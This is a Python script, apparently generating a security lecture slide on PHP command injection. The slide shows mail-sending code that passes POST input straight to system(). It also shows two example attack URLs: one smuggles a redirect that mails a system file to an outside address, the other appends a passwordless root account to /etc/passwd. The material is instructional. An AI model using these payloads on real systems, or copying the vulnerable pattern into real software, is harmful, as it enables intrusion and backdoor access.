
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.util import Cm, Pt

presentation = Presentation()
presentation.slide_width = Cm(33.87)
presentation.slide_height = Cm(19.05)
slide = presentation.slides.add_slide(presentation.slide_layouts[6])


def add_box(left, top, width, height, fill=None, line=None, line_width=0.75):
    shape = slide.shapes.add_shape(
        MSO_SHAPE.RECTANGLE, Cm(left), Cm(top), Cm(width), Cm(height))
    shape.shadow.inherit = False
    if fill:
        shape.fill.solid()
        shape.fill.fore_color.rgb = RGBColor.from_string(fill)
    else:
        shape.fill.background()
    if line:
        shape.line.color.rgb = RGBColor.from_string(line)
        shape.line.width = Pt(line_width)
    else:
        shape.line.fill.background()
    return shape


def write_lines(shape, lines, size, spacing=1.0, font="Arial", color="000000",
                bold=False, align=PP_ALIGN.LEFT):
    frame = shape.text_frame
    frame.word_wrap = True
    frame.vertical_anchor = MSO_ANCHOR.MIDDLE
    for index, line in enumerate(lines):
        paragraph = frame.paragraphs[0] if index == 0 else frame.add_paragraph()
        paragraph.text = line
        paragraph.alignment = align
        paragraph.line_spacing = spacing
        paragraph.font.name = font
        paragraph.font.size = Pt(size)
        paragraph.font.bold = bold
        paragraph.font.color.rgb = RGBColor.from_string(color)


# Grey panel and thin frame
add_box(0.66, 0.66, 32.56, 17.73, fill="D9D9D9")
add_box(1.04, 1.04, 31.8, 16.97, line="262626", line_width=0.5)

# Title
title = slide.shapes.add_textbox(Cm(2.97), Cm(1.78), Cm(27.94), Cm(3.81))
write_lines(title, ["More Command Injection in PHP"], 40, 0.9,
            font="Lato", color="262626", bold=True)

# Labels on the left
labels = [
    (5.69, 2.82, "Typical PHP server-side code for sending email"),
    (12.95, 1.3, "Attacker posts"),
]
for top, height, text in labels:
    label = slide.shapes.add_textbox(Cm(2.97), Cm(top), Cm(10.24), Cm(height))
    write_lines(label, [text], 24, 1.14)

# Code boxes: server code, then the two attacks
code_boxes = [
    (5.69, 2.82, "F2F2F2", [
        "$email = $_POST[“email”]",
        "$subject = $_POST[“subject”]",
        "system(“mail $email –s $subject < /tmp/joinmynetwork”)",
    ]),
    (9.47, 3.38, "F8DDCF", [
        "http://yourdomain.com/mail.pl?",
        "   email=hacker@hackerhome.net&",
        "   subject=foo < /usr/passwd; ls",
    ]),
    (13.87, 3.38, "F8DDCF", [
        "http://yourdomain.com/mail.pl?",
        "   email=hacker@hackerhome.net&subject=foo;",
        "   echo “evil::0:0:root:/:/bin/sh\">>/etc/passwd; ls",
    ]),
]
for top, height, fill, lines in code_boxes:
    code_box = add_box(12.8, top, 19.63, height, fill=fill, line="000000")
    code_box.text_frame.margin_left = Cm(0.65)
    write_lines(code_box, lines, 20, 1.05)

# Word between the two attacks
either = slide.shapes.add_textbox(Cm(20.7), Cm(12.88), Cm(1.5), Cm(1.02))
write_lines(either, ["or"], 18, align=PP_ALIGN.CENTER)

presentation.save("out.pptx")
